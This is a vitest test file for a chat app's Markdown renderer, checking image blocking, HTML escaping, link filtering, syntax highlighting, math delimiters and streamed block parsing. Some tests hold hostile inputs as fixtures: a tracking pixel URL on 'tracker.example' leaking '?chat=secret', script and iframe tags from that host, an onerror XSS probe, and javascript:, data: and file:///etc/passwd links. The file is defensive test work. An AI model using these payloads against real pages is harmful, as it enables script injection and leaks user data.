import { Tooltip } from "radix-ui";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, expect, test } from "vitest";
import { growBlocks, noBlocks } from "../../src/web/features/messages/blocks.ts";
import { colourCode } from "../../src/web/features/messages/colourCode.ts";
import Markdown from "../../src/web/features/messages/Markdown.tsx";
import { mathInDollars } from "../../src/web/features/messages/parseMarkdown.ts";
import { speak } from "../../src/web/words/words.ts";

beforeAll(() => speak("en"));

function render(markdown: string): string {
  return renderToStaticMarkup(
    <Tooltip.Provider>
      <Markdown live={false}>{markdown}</Markdown>
    </Tooltip.Provider>,
  );
}

test("[A17] a reply cannot make the page load an image, which would tell a stranger what is being read", () => {
  const html = render("![a map](https://tracker.example/pixel.png?chat=secret)");
  expect(html).not.toContain("<img");
  expect(html).toContain("a map");
});

test("[B36] HTML in a reply is shown as text and makes no element", () => {
  const html = render(
    'before <iframe src="https://tracker.example"></iframe> <img src=x onerror=alert(1)> <style>*{}</style> after\n\n<script src="https://tracker.example/t.js"></script>',
  );
  expect(html).not.toMatch(/<(?:iframe|img|style|script|link)/);
  expect(html).toContain("&lt;iframe");
  expect(html).toContain("&lt;script");
});

test("links lead only to web and mail addresses, and tell the other side nothing", () => {
  const html = render(
    "[web](https://example.com) [mail](mailto:ada@example.com) [script](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [own](/threads/1)",
  );
  expect(html.match(/href="[^"]*"/g)).toEqual(['href="https://example.com"', 'href="mailto:ada@example.com"']);
  expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(6);
});

test("code is shown as it was written, with the name of its language", () => {
  const html = render("Use `a < b` or:\n\n```ts\nif (a < b) {\n  run();\n}\n```\n");
  expect(html).toContain("<code>a &lt; b</code>");
  expect(html).toContain("<code>if (a &lt; b) {\n  run();\n}</code>");
  expect(html).toMatch(/<figcaption[^>]*>ts/);
});

test("code of a language that is known is coloured, and says the same", () => {
  const html = renderToStaticMarkup(colourCode("const a = 1; // one", "ts"));
  expect(html).toContain('<span class="hljs-keyword">const</span>');
  expect(html.replace(/<[^>]+>/g, "")).toBe("const a = 1; // one");
  expect(colourCode("beep", "klingon")).toBeNull();
});

test("tables, task lists and what is struck out look like what they are", () => {
  const html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n~~gone~~");
  expect(html).toMatch(/<table>.*<th.*a<\/th>.*<td.*2<\/td>/s);
  expect(html).toMatch(/type="checkbox"[^>]* checked/);
  expect(html).toContain("<del>gone</del>");
});

test.each([
  ["round brackets", "so \\(a^2\\) holds", "so $$a^2$$ holds"],
  ["square brackets", "\\[\na^2\n\\]", "\n$$\na^2\n$$\n"],
  ["dollars", "so $a^2$ holds", "so $$a^2$$ holds"],
  ["money", "between $5 and $10, or $5-$10", "between $5 and $10, or $5-$10"],
  ["a variable of a shell", "run `echo $HOME $PATH`", "run `echo $HOME $PATH`"],
  ["a block of code", "```sh\necho $A$ \\(b\\)\n```\n$x$", "```sh\necho $A$ \\(b\\)\n```\n$$x$$"],
  ["a block of code that is not closed yet", "```sh\necho $A$", "```sh\necho $A$"],
  ["dollars that are set already", "$$a$$", "$$a$$"],
])("mathematics is told from what only looks like it: %s", (_what, source, written) => {
  expect(mathInDollars(source)).toBe(written);
});

const LONG = [
  "# Plan\n\nSome *words* with **weight**.\n\n1. one\n\n2. two\n   more of two\n\n3. three\n\n",
  "> quoted\nlazily\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n",
  "Heading\n---\ntext\n#tag and\n***more*** of it\n\n- a\n\n  b\n- c\n\n$$\nx^2\n\ny\n$$\n\nThe end of a text that is long enough.",
].join("");

test("a text that grows a piece at a time ends in the same blocks as one that comes whole", () => {
  for (const step of [1, 3, 7, 40]) {
    let blocks = noBlocks;
    for (let length = step; length < LONG.length; length += step) blocks = growBlocks(blocks, LONG.slice(0, length));
    blocks = growBlocks(blocks, LONG);
    expect(blocks.settledText + blocks.last).toBe(LONG);
    const parts = [...blocks.settled, blocks.last].map((block) => render(block).replace(/^<div[^>]*>|<\/div>$/g, ""));
    expect(parts.join("").replace(/\s+/g, "")).toBe(
      render(LONG)
        .replace(/^<div[^>]*>|<\/div>$/g, "")
        .replace(/\s+/g, ""),
    );
  }
});

test("what is settled stays the same text while more arrives, so that only the end is rendered again", () => {
  const half = growBlocks(noBlocks, LONG.slice(0, 200));
  const whole = growBlocks(half, LONG);
  expect(half.settled.length).toBeGreaterThan(3);
  expect(whole.settled.slice(0, half.settled.length)).toEqual(half.settled);
  expect(whole.last.length).toBeLessThan(60);
});

test("a text that defines what it links to in another place stays one block", () => {
  const text =
    "See [the page][1], and a word more.\n\nAnd then something else that is long.\n\n[1]: https://example.com\n";
  expect(growBlocks(noBlocks, text).settled).toEqual([]);
  expect(render(text)).toContain('href="https://example.com"');
});

test("a text that is replaced by another is cut anew", () => {
  const blocks = growBlocks(growBlocks(noBlocks, LONG), "Something else\n\nand not a word of what was there");
  expect(blocks.settledText + blocks.last).toBe("Something else\n\nand not a word of what was there");
});
